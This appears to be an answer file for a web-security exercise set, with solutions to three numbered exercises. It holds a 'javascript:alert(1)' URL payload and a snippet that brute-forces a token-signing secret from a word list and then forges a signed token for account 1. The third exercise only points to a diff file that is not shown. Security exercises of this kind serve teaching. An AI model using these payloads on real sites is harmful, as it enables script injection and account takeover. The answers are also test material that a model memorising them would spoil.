# %% Exercise 06.5
# What stands before the colon decides: this one means "run the rest".
answer = "javascript:alert(1)"

# %% Exercise 06.6
for word in words:
    try:
        signer(word).loads(found)
    except BadSignature:
        continue
    answer = signer(word).dumps({"account": 1})

# %% Exercise 06.7
# The change is in 06.7.diff: a line with + is new, a line with - goes, the others show where.
